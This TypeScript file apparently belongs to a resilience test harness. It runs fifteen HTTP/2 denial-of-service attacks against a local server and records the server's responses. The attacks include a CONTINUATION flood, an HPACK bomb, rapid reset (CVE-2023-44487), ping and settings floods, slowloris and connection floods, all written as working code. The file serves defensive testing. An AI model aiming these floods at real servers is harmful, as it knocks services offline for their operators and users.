// HTTP/2 attacks on a client port, as an attacker would run them: raw sockets writing at full speed
// (as fast as the socket takes bytes), for a bounded time, reconnecting when the server ends a
// connection. Run in a child process (h2_attacker_main.ts) so that the test process, which measures
// the server's answers to a probe client, is not slowed by the attack's own work.
//
// Every attack reports what the server did on the wire: GOAWAY and RST_STREAM codes, connections it
// ended, bytes it took, answers it gave.
import { connect, type Socket } from 'node:net';
import {
  CANCEL,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  ENHANCE_YOUR_CALM,
  FrameParser,
  GOAWAY,
  HEADERS,
  KV_PUT,
  KV_RANGE,
  PING,
  PREFACE,
  RST_STREAM,
  SETTINGS,
  SETTINGS_ENABLE_PUSH,
  SETTINGS_INITIAL_WINDOW_SIZE,
  SETTINGS_MAX_CONCURRENT_STREAMS,
  SETTINGS_MAX_FRAME_SIZE,
  WINDOW_UPDATE,
  TYPE_NAMES,
  codeName,
  frame,
  grpcMessage,
  header,
  headerFrames,
  indexedField,
  indexedLiteral,
  priorityFrame,
  putRequest,
  rangeRequest,
  requestBlock,
  rstStream,
  settingsAck,
  settingsFrame,
  unaryCall,
  windowUpdate,
  type Frame,
} from './h2_wire.ts';

export type AttackKind =
  | 'continuation-flood'
  | 'hpack-bomb'
  | 'prefix15-respecting-flow-control'
  | 'prefix15-ignoring-flow-control'
  | 'pipelined-1mb-ranges-no-read-big-window'
  | 'pipelined-1mb-ranges-no-read-default-window'
  | 'rapid-reset'
  | 'idle-streams-settings-flood'
  | 'ping-flood-no-read'
  | 'settings-flood-no-read'
  | 'empty-data-flood'
  | 'slowloris-preface'
  | 'connection-flood'
  | 'window-update-flood'
  | 'priority-flood';

export interface AttackSpec {
  kind: AttackKind;
  port: number;
  /** How long the attack runs. */
  ms: number;
  /** Key read by the Range calls (a small value). */
  key: string;
  /** Key of a 1 MB value (read by the pipelined attacks). */
  bigKey: string;
}

export interface AttackReport {
  kind: AttackKind;
  /** Connections opened (attempted). */
  connections: number;
  /** Connections that completed the TCP handshake. */
  connected: number;
  /** Connections that got the server's SETTINGS (read attacks only). */
  handshaken: number;
  /** Connections the server ended (GOAWAY, FIN or reset) before the attacker left. */
  endedByServer: number;
  /** Connections still open when the attack stopped. */
  openAtEnd: number;
  /** Bytes the kernel took from the attacker (write callbacks without error). */
  bytesSent: number;
  /** Bytes read back from the server. */
  bytesReceived: number;
  /** GOAWAY error codes received, by name, counted per connection. */
  goaways: Record<string, number>;
  /** RST_STREAM codes received, by name. */
  rsts: Record<string, number>;
  /** Frames received, by type name. */
  framesReceived: Record<string, number>;
  /** ms from the attack's start to the first GOAWAY or server close, if any. */
  firstReactionMs: number | undefined;
  /** Streams opened by the attacker. */
  streams: number;
  /** Answers with grpc-status 0, and streams refused (RST_STREAM, :status != 200, grpc-status != 0). */
  okAnswers: number;
  refused: number;
  /** Attack-specific figures (DATA bytes flushed, max concurrent streams seen, ...). */
  extra: Record<string, number | string>;
  /** The attacker's own elapsed time. */
  elapsedMs: number;
}

/** A 1 MB value's Range answer and small answers alike: a stream's fate as the attacker saw it. */
interface StreamFate {
  ok?: boolean;
  refused?: boolean;
}

const MAX_WINDOW = 2 ** 31 - 1;

/** One attacking connection: writes with the socket's backpressure, reads (or not), records. */
class AttackConn {
  readonly sock: Socket;
  connected = false;
  closed = false;
  endedByServer = false;
  goaway: number | undefined;
  handshaken = false;
  /** The server's SETTINGS as seen. */
  peerInitialWindow = 65_535;
  peerMaxStreams: number | undefined;
  /** Send windows as the server grants them (for attacks that respect flow control). */
  connWindow = 65_535;
  readonly streamWindows = new Map<number, number>();
  readonly fates = new Map<number, StreamFate>();
  private parser: FrameParser | undefined;
  private leaving = false;
  private readonly waiters: (() => void)[] = [];

  constructor(
    private readonly r: Recorder,
    port: number,
    opts: { read: boolean; decode?: boolean; first?: Buffer; ackSettings?: boolean },
  ) {
    r.report.connections++;
    this.sock = connect(port, '127.0.0.1');
    this.sock.setNoDelay(true);
    if (opts.read) this.startReading(opts.decode ?? false, opts.ackSettings ?? true);
    else this.sock.pause();
    // Written at once (the socket holds it until connected), so it goes before anything else.
    if (opts.first !== undefined) this.write(opts.first);
    this.sock.on('connect', () => {
      this.connected = true;
      r.report.connected++;
      this.wake();
    });
    this.sock.on('error', () => {});
    this.sock.on('end', () => this.serverEnded());
    this.sock.on('close', () => {
      this.closed = true;
      if (!this.leaving) this.serverEnded();
      this.wake();
    });
  }

  private serverEnded(): void {
    if (this.endedByServer || this.leaving) return;
    this.endedByServer = true;
    this.r.report.endedByServer++;
    this.r.reaction();
  }

  private startReading(decode: boolean, ackSettings: boolean): void {
    this.parser = new FrameParser((f) => this.onFrame(f, ackSettings), decode);
    this.sock.on('data', (d: Buffer) => {
      this.r.report.bytesReceived += d.length;
      this.parser!.push(d);
    });
  }

  private onFrame(f: Frame, ackSettings: boolean): void {
    const r = this.r.report;
    const name = TYPE_NAMES[f.type] ?? `type${f.type}`;
    r.framesReceived[name] = (r.framesReceived[name] ?? 0) + 1;
    switch (f.type) {
      case SETTINGS:
        if (f.flags & 1) break;
        if (!this.handshaken) {
          this.handshaken = true;
          r.handshaken++;
        }
        for (let i = 0; i + 6 <= f.payload.length; i += 6) {
          const k = f.payload.readUInt16BE(i);
          const v = f.payload.readUInt32BE(i + 2);
          if (k === SETTINGS_INITIAL_WINDOW_SIZE) {
            const delta = v - this.peerInitialWindow;
            this.peerInitialWindow = v;
            for (const [id, w] of this.streamWindows) this.streamWindows.set(id, w + delta);
          }
          if (k === SETTINGS_MAX_CONCURRENT_STREAMS) {
            this.peerMaxStreams = v;
            r.extra.maxConcurrentStreams = v;
          }
        }
        if (ackSettings && !this.closed) this.sock.write(settingsAck());
        break;
      case GOAWAY:
        if (this.goaway === undefined && f.payload.length >= 8) {
          this.goaway = f.payload.readUInt32BE(4);
          const n = codeName(this.goaway);
          r.goaways[n] = (r.goaways[n] ?? 0) + 1;
          this.r.reaction();
        }
        break;
      case RST_STREAM: {
        const n = codeName(f.payload.length >= 4 ? f.payload.readUInt32BE(0) : undefined);
        r.rsts[n] = (r.rsts[n] ?? 0) + 1;
        this.fate(f.id).refused = true;
        break;
      }
      case WINDOW_UPDATE: {
        const inc = f.payload.length >= 4 ? f.payload.readUInt32BE(0) & 0x7fffffff : 0;
        if (f.id === 0) this.connWindow += inc;
        else {
          const w = this.streamWindows.get(f.id);
          if (w !== undefined) this.streamWindows.set(f.id, w + inc);
        }
        this.wake();
        break;
      }
      case HEADERS:
      case CONTINUATION:
        if (f.fields !== undefined) {
          const status = header(f.fields, ':status');
          const grpc = header(f.fields, 'grpc-status');
          if (status !== undefined && status !== '200') this.fate(f.id).refused = true;
          if (grpc !== undefined) {
            if (grpc === '0') this.fate(f.id).ok = true;
            else this.fate(f.id).refused = true;
          }
        }
        break;
    }
  }

  private fate(id: number): StreamFate {
    let s = this.fates.get(id);
    if (s === undefined) this.fates.set(id, (s = {}));
    return s;
  }

  /** Opens stream `id`'s send window bookkeeping. */
  opened(id: number): void {
    this.streamWindows.set(id, this.peerInitialWindow);
    this.r.report.streams++;
  }

  write(b: Buffer): boolean {
    if (this.closed || this.sock.destroyed) return false;
    return this.sock.write(b, (err) => {
      if (!err) this.r.report.bytesSent += b.length;
    });
  }

  get writable(): boolean {
    return !this.closed && !this.sock.destroyed && this.sock.writableLength < this.sock.writableHighWaterMark;
  }

  /** Resolves on drain, a frame that may open a window, close, or after `ms`. */
  wait(ms: number): Promise<void> {
    return new Promise((resolve) => {
      const done = () => {
        clearTimeout(t);
        this.sock.off('drain', done);
        resolve();
      };
      const t = setTimeout(done, ms);
      this.sock.once('drain', done);
      this.waiters.push(done);
    });
  }

  private wake(): void {
    for (const w of this.waiters.splice(0)) w();
  }

  /**
   * Writes what `next` gives as fast as the socket takes it, until `next` returns undefined, the
   * deadline, or the connection ends. `next` returning null means "blocked for now" (flow control).
   */
  async pump(next: () => Buffer | null | undefined, deadline: number): Promise<void> {
    while (!this.connected && !this.closed && Date.now() < deadline) await this.wait(50);
    let since = 0;
    while (!this.closed && Date.now() < deadline) {
      if (!this.writable) {
        await this.wait(100);
        continue;
      }
      const b = next();
      if (b === undefined) return;
      if (b === null) {
        await this.wait(20);
        continue;
      }
      this.write(b);
      // Let the reader run now and then: frames from the server are part of what is measured.
      if (++since >= 16) {
        since = 0;
        await new Promise((r) => setImmediate(r));
      }
    }
  }

  /** Holds the connection open (reading if it reads) until the deadline or its end. */
  async hold(deadline: number): Promise<void> {
    while (!this.closed && Date.now() < deadline) await this.wait(Math.min(200, deadline - Date.now()));
  }

  /**
   * For a connection that never read: reads what the server sent (frame types and GOAWAY only) for
   * up to `ms`, so its reaction is known.
   */
  async drainReading(ms: number): Promise<void> {
    if (this.closed || this.parser !== undefined) return;
    this.startReading(false, false);
    this.sock.resume();
    await new Promise((r) => setTimeout(r, ms));
  }

  leave(): void {
    this.leaving = true;
    if (!this.closed) this.r.report.openAtEnd++;
    this.sock.destroy();
  }

  /** Answers: ok and refused streams among `ids` (or all). */
  tally(): void {
    for (const f of this.fates.values()) {
      if (f.ok) this.r.report.okAnswers++;
      else if (f.refused) this.r.report.refused++;
    }
  }
}

class Recorder {
  readonly start = Date.now();
  readonly report: AttackReport;

  constructor(kind: AttackKind) {
    this.report = {
      kind,
      connections: 0,
      connected: 0,
      handshaken: 0,
      endedByServer: 0,
      openAtEnd: 0,
      bytesSent: 0,
      bytesReceived: 0,
      goaways: {},
      rsts: {},
      framesReceived: {},
      firstReactionMs: undefined,
      streams: 0,
      okAnswers: 0,
      refused: 0,
      extra: {},
      elapsedMs: 0,
    };
  }

  reaction(): void {
    this.report.firstReactionMs ??= Date.now() - this.start;
  }
}

const hello = (pairs: readonly (readonly [number, number])[] = []): Buffer =>
  Buffer.concat([PREFACE, settingsFrame(pairs)]);

const repeat = (b: Buffer, n: number): Buffer => Buffer.concat(Array.from({ length: n }, () => b));

/**
 * Runs `lanes` connections at once, each running `script` until the deadline; a lane whose
 * connection the server ends opens a new one (an attacker reconnects).
 */
async function lanes(
  r: Recorder,
  n: number,
  deadline: number,
  open: () => AttackConn,
  script: (c: AttackConn) => Promise<void>,
  all: AttackConn[],
): Promise<void> {
  const lane = async () => {
    while (Date.now() < deadline) {
      const c = open();
      all.push(c);
      await script(c);
      await c.hold(deadline);
      if (!c.closed) return;
      // Reconnect, but not in a tight loop when the port refuses.
      if (!c.connected) await new Promise((res) => setTimeout(res, 50));
    }
  };
  await Promise.all(Array.from({ length: n }, lane));
  void r;
}

export async function runAttack(spec: AttackSpec): Promise<AttackReport> {
  const r = new Recorder(spec.kind);
  const deadline = r.start + spec.ms;
  const all: AttackConn[] = [];
  const { port, key } = spec;
  const reading = (first: Buffer = hello()) => new AttackConn(r, port, { read: true, first });
  /** A reader that never acknowledges SETTINGS: nothing may come between a header block's frames. */
  const silent = () => new AttackConn(r, port, { read: true, first: hello(), ackSettings: false });
  const decoding = (first: Buffer = hello()) => new AttackConn(r, port, { read: true, decode: true, first });
  const rangeMsg = rangeRequest(key);

  switch (spec.kind) {
    case 'continuation-flood': {
      // A header block that never ends: HEADERS without END_HEADERS, then empty CONTINUATIONs.
      const empties = repeat(frame(CONTINUATION, 0, 1), 4096);
      await lanes(
        r,
        2,
        deadline,
        silent,
        async (c) => {
          c.write(frame(HEADERS, END_STREAM, 1, requestBlock(KV_RANGE)));
          c.opened(1);
          await c.pump(() => empties, deadline);
        },
        all,
      );
      break;
    }

    case 'hpack-bomb': {
      // Stream 1 puts one ~3.9 KB field in the dynamic table (index 62); every later stream's block
      // is 64 KiB of one-byte references to it: ~250 MB of header list per 64 KiB sent.
      const big = indexedLiteral('x-bomb', 'b'.repeat(3900));
      const refs = Buffer.alloc(65_536, indexedField(62)[0]!);
      const msg = frame(DATA, END_STREAM, 0, grpcMessage(rangeMsg));
      await lanes(
        r,
        2,
        deadline,
        () => decoding(),
        async (c) => {
          c.write(
            Buffer.concat([
              headerFrames(1, Buffer.concat([requestBlock(KV_RANGE), big]), false),
              withId(msg, 1),
            ]),
          );
          c.opened(1);
          let id = 1;
          await c.pump(() => {
            id += 2;
            c.opened(id);
            const block = Buffer.concat([requestBlock(KV_RANGE), refs]);
            return Buffer.concat([headerFrames(id, block, false), withId(msg, id)]);
          }, deadline);
          r.report.extra.bombStreams = (Number(r.report.extra.bombStreams) || 0) + (id - 1) / 2;
        },
        all,
      );
      break;
    }

    case 'prefix15-respecting-flow-control': {
      // A Range whose gRPC prefix says 15 bytes (the message is 15 bytes), then DATA for as long as
      // the windows the server grants allow; a stream whose window is spent is left for a new one.
      const msg15 = rangeRequest('attack/prefix');
      const chunk = Buffer.alloc(16_384);
      let dataBytes = 0;
      await lanes(
        r,
        2,
        deadline,
        () => reading(),
        async (c) => {
          while (!c.handshaken && !c.closed && Date.now() < deadline) await c.wait(20);
          let id = -1;
          const openStream = () => {
            id += 2;
            c.opened(id);
            const m = grpcMessage(msg15);
            c.streamWindows.set(id, c.peerInitialWindow - m.length);
            c.connWindow -= m.length;
            return Buffer.concat([
              frame(HEADERS, END_HEADERS, id, requestBlock(KV_RANGE)),
              frame(DATA, 0, id, m),
            ]);
          };
          let pending: Buffer | undefined = openStream();
          await c.pump(() => {
            if (pending !== undefined) {
              const p = pending;
              pending = undefined;
              return p;
            }
            const sw = c.streamWindows.get(id) ?? 0;
            if (sw < chunk.length) {
              if (id + 2 > MAX_WINDOW) return undefined;
              pending = openStream();
              return null;
            }
            if (c.connWindow < chunk.length) return null;
            c.streamWindows.set(id, sw - chunk.length);
            c.connWindow -= chunk.length;
            dataBytes += chunk.length;
            return frame(DATA, 0, id, chunk);
          }, deadline);
        },
        all,
      );
      r.report.extra.dataBytesWritten = dataBytes;
      break;
    }

    case 'prefix15-ignoring-flow-control': {
      // A Put whose prefix says 15 bytes, then DATA on the same stream without end, windows ignored.
      const msg15 = putRequest('atk/k', 'vvvvvv');
      if (msg15.length !== 15) throw new Error('the Put message must be 15 bytes');
      const data = repeat(frame(DATA, 0, 1, Buffer.alloc(16_384)), 4);
      let dataBytes = 0;
      await lanes(
        r,
        1,
        deadline,
        () => reading(),
        async (c) => {
          c.write(
            Buffer.concat([
              frame(HEADERS, END_HEADERS, 1, requestBlock(KV_PUT)),
              frame(DATA, 0, 1, grpcMessage(msg15)),
            ]),
          );
          c.opened(1);
          await c.pump(() => {
            dataBytes += 4 * 16_384;
            return data;
          }, deadline);
        },
        all,
      );
      r.report.extra.dataBytesWritten = dataBytes;
      break;
    }

    case 'pipelined-1mb-ranges-no-read-big-window':
    case 'pipelined-1mb-ranges-no-read-default-window': {
      // 20,000 Range calls of a 1 MB value in one go, on a connection that never reads; the first
      // variant also grants the server the largest windows (and frames), so nothing holds its answers.
      const big = spec.kind === 'pipelined-1mb-ranges-no-read-big-window';
      const first = big
        ? Buffer.concat([
            hello([
              [SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW],
              [SETTINGS_MAX_FRAME_SIZE, 2 ** 24 - 1],
            ]),
            windowUpdate(0, MAX_WINDOW - 65_535),
          ])
        : hello();
      const c = new AttackConn(r, port, { read: false, first });
      all.push(c);
      const bigMsg = rangeRequest(spec.bigKey);
      let id = -1;
      const CALLS = 20_000;
      await c.pump(() => {
        if (id + 2 > 2 * CALLS) return undefined;
        const parts: Buffer[] = [];
        for (let i = 0; i < 200 && id + 2 <= 2 * CALLS; i++) {
          id += 2;
          r.report.streams++;
          parts.push(unaryCall(id, KV_RANGE, bigMsg));
        }
        return Buffer.concat(parts);
      }, deadline);
      r.report.extra.callsWritten = (id + 1) / 2;
      await c.hold(deadline);
      break;
    }

    case 'rapid-reset': {
      // CVE-2023-44487: a whole request, then RST_STREAM(CANCEL) at once, stream after stream.
      await lanes(
        r,
        2,
        deadline,
        () => reading(),
        async (c) => {
          let id = -1;
          await c.pump(() => {
            const parts: Buffer[] = [];
            for (let i = 0; i < 100; i++) {
              id += 2;
              parts.push(unaryCall(id, KV_RANGE, rangeMsg), rstStream(id, CANCEL));
            }
            r.report.streams += 100;
            return Buffer.concat(parts);
          }, deadline);
        },
        all,
      );
      break;
    }

    case 'idle-streams-settings-flood': {
      // 20,000 streams opened and left waiting for their message, then SETTINGS without end, each
      // changing INITIAL_WINDOW_SIZE (which touches every open stream's window).
      await lanes(
        r,
        1,
        deadline,
        () => decoding(),
        async (c) => {
          const opens: Buffer[] = [];
          for (let id = 1; id < 40_000; id += 2) {
            opens.push(frame(HEADERS, END_HEADERS, id, requestBlock(KV_RANGE)));
            c.opened(id);
          }
          let at = 0;
          let k = 0;
          await c.pump(() => {
            if (at < opens.length) {
              const b = Buffer.concat(opens.slice(at, at + 500));
              at += 500;
              return b;
            }
            const parts: Buffer[] = [];
            for (let i = 0; i < 1000; i++)
              parts.push(settingsFrame([[SETTINGS_INITIAL_WINDOW_SIZE, 65_535 + (k++ % 2) * 1_000_000]]));
            return Buffer.concat(parts);
          }, deadline);
        },
        all,
      );
      break;
    }

    case 'ping-flood-no-read':
    case 'settings-flood-no-read': {
      // Frames that each need an answer, from clients that never read the answers; a new client
      // joins whenever every one so far is blocked (up to 32).
      const one =
        spec.kind === 'ping-flood-no-read'
          ? frame(PING, 0, 0, Buffer.from('attack!!'))
          : settingsFrame([[SETTINGS_ENABLE_PUSH, 0]]);
      const chunk = repeat(one, 2048);
      const running: Promise<void>[] = [];
      const spawn = () => {
        const c = new AttackConn(r, port, { read: false, first: hello() });
        all.push(c);
        running.push(c.pump(() => chunk, deadline));
      };
      spawn();
      while (Date.now() < deadline) {
        await new Promise((res) => setTimeout(res, 200));
        const live = all.filter((c) => !c.closed);
        if (live.length < 32 && live.every((c) => !c.writable)) spawn();
        if (live.length === 0) spawn();
      }
      await Promise.all(running);
      break;
    }

    case 'empty-data-flood': {
      const empties = repeat(frame(DATA, 0, 1), 4096);
      await lanes(
        r,
        2,
        deadline,
        () => reading(),
        async (c) => {
          c.write(frame(HEADERS, END_HEADERS, 1, requestBlock(KV_RANGE)));
          c.opened(1);
          await c.pump(() => empties, deadline);
        },
        all,
      );
      break;
    }

    case 'slowloris-preface': {
      // 2,000 connections: half send half of the preface, half send nothing; all are held.
      const half = PREFACE.subarray(0, 12);
      for (let i = 0; i < 2000 && Date.now() < deadline; i++) {
        all.push(new AttackConn(r, port, { read: true, ...(i % 2 === 0 ? { first: half } : {}) }));
        if (i % 100 === 99) await new Promise((res) => setTimeout(res, 10));
      }
      while (Date.now() < deadline && all.some((c) => !c.closed))
        await new Promise((res) => setTimeout(res, 100));
      r.report.extra.lastClosedMs = Date.now() - r.start;
      break;
    }

    case 'connection-flood': {
      // 5,000 connections, each with a whole preface and SETTINGS, all held open.
      for (let i = 0; i < 5000 && Date.now() < deadline; i++) {
        all.push(reading());
        if (i % 200 === 199) await new Promise((res) => setTimeout(res, 20));
      }
      while (Date.now() < deadline) await new Promise((res) => setTimeout(res, 100));
      r.report.extra.heldOpen = all.filter((c) => !c.closed && c.handshaken).length;
      break;
    }

    case 'window-update-flood': {
      const wu = repeat(Buffer.concat([windowUpdate(0, 1), windowUpdate(1, 1)]), 2000);
      await lanes(
        r,
        2,
        deadline,
        () => reading(),
        async (c) => {
          c.write(frame(HEADERS, END_HEADERS, 1, requestBlock(KV_RANGE)));
          c.opened(1);
          await c.pump(() => wu, deadline);
        },
        all,
      );
      break;
    }

    case 'priority-flood': {
      await lanes(
        r,
        2,
        deadline,
        () => reading(),
        async (c) => {
          let id = 1;
          await c.pump(() => {
            const parts: Buffer[] = [];
            for (let i = 0; i < 2000; i++) {
              parts.push(priorityFrame(id, id > 2 ? id - 2 : 0, i % 256));
              id = id + 2 > MAX_WINDOW ? 1 : id + 2;
            }
            return Buffer.concat(parts);
          }, deadline);
        },
        all,
      );
      break;
    }
  }

  // Connections that never read: what did the server send them?
  await Promise.all(all.map((c) => c.drainReading(300)));
  // A GOAWAY of ENHANCE_YOUR_CALM found in bytes read late counts as the server's reaction too.
  r.report.extra.enhanceYourCalm = r.report.goaways[codeName(ENHANCE_YOUR_CALM)] ?? 0;
  for (const c of all) {
    c.tally();
    c.leave();
  }
  r.report.elapsedMs = Date.now() - r.start;
  return r.report;
}

/** `f` (a frame built for stream 0) with stream id `id`. */
function withId(f: Buffer, id: number): Buffer {
  const b = Buffer.from(f);
  b.writeUInt32BE(id, 5);
  return b;
}
